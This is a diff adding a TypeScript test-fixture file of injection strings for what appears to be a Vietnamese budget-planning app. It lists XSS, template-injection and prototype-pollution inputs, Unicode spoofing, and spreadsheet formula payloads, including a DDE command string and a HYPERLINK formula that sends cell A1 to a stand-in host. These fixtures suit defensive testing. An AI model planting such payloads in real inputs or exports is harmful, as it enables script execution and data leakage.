@@ -1,0 +1,49 @@
+/** Texts that run something, or break something, wherever text is taken for more than text. */
+export const PAYLOADS: readonly string[] = [
+  '<script>window.ran=1</script>',
+  '<img src=x onerror="window.ran=2">',
+  '"><svg onload=window.ran=3>',
+  "'><iframe srcdoc='<script>parent.ran=4</script>'>",
+  'javascript:window.ran=5',
+  '{{constructor.constructor("window.ran=6")()}}',
+  '${window.ran=7}',
+  '{@html "<b onclick=window.ran=8>"}',
+  '</textarea></title></style><script>window.ran=9</script>',
+  '<a href="javascript:window.ran=10">Thu ngân sách</a>',
+  '<style>@import url(//x.invalid)</style>',
+  'background:url(//x.invalid/a.png)',
+  '<link rel=stylesheet href=//x.invalid>',
+  '&lt;script&gt;window.ran=11&lt;/script&gt;',
+  '\\u003cscript\\u003ewindow.ran=12\\u003c/script\\u003e',
+  '__proto__',
+  'constructor',
+  'toString',
+  'Sản lượng \u202Egnàht 2024\u202C',
+  'Sản\u200B lượng\uFEFF lúa',
+  '%00%3Cscript%3E',
+  '<!--<img src="--><img src=x onerror=window.ran=13//">',
+  ']]><script>window.ran=14</script>',
+];
+
+/** Texts a spreadsheet would reckon with. */
+export const FORMULAS: readonly string[] = [
+  '=1+1',
+  '=HYPERLINK("http://x.invalid?"&A1,"xem")',
+  "=cmd|' /C calc'!A0",
+  '@SUM(1+1)',
+  '+1+1',
+  '-1+cmd|x!A0',
+  '-SUM(A1:A9)',
+  '＝1+1',
+  "'=1+1",
+];
+
+/** Names as plans have them, and negative numbers: no spreadsheet reckons with these. */
+export const HARMLESS: readonly string[] = [
+  '- Trong đó: lúa mùa',
+  '+ Thu nội địa',
+  '-5',
+  '-5,2',
+  '- 1.234,5',
+  '+ Đường liên xã',
+];
